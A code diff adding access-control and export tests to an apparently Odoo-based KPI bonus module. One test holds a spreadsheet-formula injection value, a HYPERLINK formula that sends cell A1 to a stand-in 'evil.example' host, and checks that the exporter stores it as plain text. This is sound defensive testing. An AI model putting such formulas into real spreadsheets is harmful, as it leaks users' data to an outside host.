@@ -41,6 +41,27 @@ class TestBonusVisibility(BonusCase):
         with self.assertRaises(AccessError):
             self.sheet.with_user(self.salesman)._get_xlsx_content()
 
+    def test_salesperson_does_not_see_the_team_total(self):
+        self.approve(self.sheet)
+        sheet = self.sheet.with_user(self.salesman)
+        for field in ("total_amount", "base_amount", "levels_frozen"):
+            with self.assertRaises(AccessError):
+                sheet.read([field])
+        self.assertEqual(sheet.read(["name"])[0]["name"], self.sheet.name)
+        amounts = [self.sheet.currency_id.format(ln.amount) for ln in self.sheet.line_ids]
+        amounts.append(self.sheet.currency_id.format(self.sheet.total_amount))
+        for body in sheet.message_ids.mapped("body"):
+            for amount in amounts:
+                self.assertNotIn(amount, body)
+        self.assertIn("Figures computed: 2 employees.", " ".join(
+            sheet.message_ids.mapped("body")))
+        arch = sheet.get_views([(False, "form"), (False, "list")])["views"]
+        for view in arch.values():
+            self.assertNotIn('name="total_amount"', view["arch"])
+        # the manager still reads them
+        self.assertEqual(self.sheet.with_user(self.manager).total_amount,
+                         self.sheet.total_amount)
+
     def test_manager_sees_own_team_only(self):
         Sheet = self.env["kpi.bonus.sheet"]
         self.assertEqual(Sheet.with_user(self.manager).search([]), self.sheet)
@@ -147,6 +168,25 @@ class TestBonusXlsx(BonusCase):
         self.assertEqual(ws.freeze_panes, "B%s" % (header_row + 1))
         self.assertEqual(ws.auto_filter.ref, "A%s:J%s" % (header_row, header_row + 2))
 
+    def test_strings_are_never_formulas(self):
+        evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+        header = {"title": evil, "company": evil, "scheme": "S", "team": evil, "period": "P",
+                  "currency": "EUR", "approvals": [(evil, evil, None)]}
+        rows = [{"name": evil, "login": "=1+1", "profile": "+SUM(A1)", "team": "-2",
+                 "kpis": [{"value": 1, "target": 1, "score": 100, "weight": 100}],
+                 "total_score": 100, "amount": 5}]
+        content = build_bonus_xlsx(header, [evil], rows)
+        ws = openpyxl.load_workbook(io.BytesIO(content)).active
+        given = {evil, "=1+1", "+SUM(A1)", "-2", evil + ": Value"}
+        cells = [c for row in ws.iter_rows() for c in row if c.value in given]
+        self.assertEqual(len(cells), 10)  # title, company, team, approval x2, KPI, employee
+        for cell in cells:
+            self.assertEqual(cell.data_type, "s", cell.coordinate)
+        header_row = next(r for r in range(1, 20) if ws.cell(r, 1).value == "Employee")
+        employee = ws[header_row + 1]
+        self.assertEqual((employee[0].value, employee[0].data_type), (evil, "s"))
+        self.assertEqual((employee[1].value, employee[1].data_type), ("=1+1", "s"))
+
     def test_sheet_workbook_and_export_state(self):
         sheet = self.new_sheet()
         sheet.with_user(self.officer).action_compute()
@@ -158,9 +198,11 @@ class TestBonusXlsx(BonusCase):
                          self.officer.name, self.salesman.login, self.salesman2.login,
                          "Customer service: Score (%)"):
             self.assertIn(expected, cells)
-        sheet.with_user(self.officer)._mark_exported()
+        action = sheet.with_user(self.officer).action_export_xlsx()
         self.assertEqual((sheet.state, sheet.exported_uid), ("exported", self.officer))
         self.assertTrue(sheet.exported_date)
+        self.assertEqual((action["type"], action["url"]),
+                         ("ir.actions.act_url", "/kpi_management/bonus_sheet/%s/xlsx" % sheet.id))
 
 
 class TestBonusExportRoute(BonusCase, HttpCase):
@@ -183,7 +225,15 @@ class TestBonusExportRoute(BonusCase, HttpCase):
         ws = openpyxl.load_workbook(io.BytesIO(response.content)).active
         self.assertIn(self.salesman.login, [c.value for row in ws.iter_rows() for c in row])
         sheet.invalidate_recordset()
+        self.assertEqual(sheet.state, "approved")  # a GET alone changes nothing (CSRF)
+        self.assertFalse(sheet.exported_uid)
+        # the button records the export (JSON-RPC), then the route serves the file again
+        sheet.with_user(self.officer).action_export_xlsx()
         self.assertEqual((sheet.state, sheet.exported_uid), ("exported", self.officer))
+        self.assertEqual(self.url_open(url).status_code, 200)
+        for user in (self.salesman, self.manager):
+            self.authenticate(user.login, user.login)
+            self.assertEqual(self.url_open(url).status_code, 404, user.login)
 
 
 @freeze_time(NOW)
